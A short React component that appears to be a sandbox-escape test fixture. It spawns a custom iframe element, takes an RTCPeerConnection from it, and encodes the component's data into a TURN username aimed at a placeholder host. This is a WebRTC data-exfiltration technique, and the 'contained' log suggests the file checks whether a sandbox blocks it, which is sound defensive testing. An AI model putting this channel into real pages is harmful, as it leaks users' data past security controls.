import { useEffect } from "react";

// Escape attempt: webrtc_custom_element — a customized built-in iframe, made by its constructor
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_custom_element-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      class Frame extends HTMLIFrameElement {}
      customElements.define("hostile-frame-" + Math.floor(Math.random() * 1e9), Frame, { extends: "iframe" });
      const frame = document.body.appendChild(new Frame());
      const Peer = frame.contentWindow.RTCPeerConnection;
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_custom_element</p>;
}
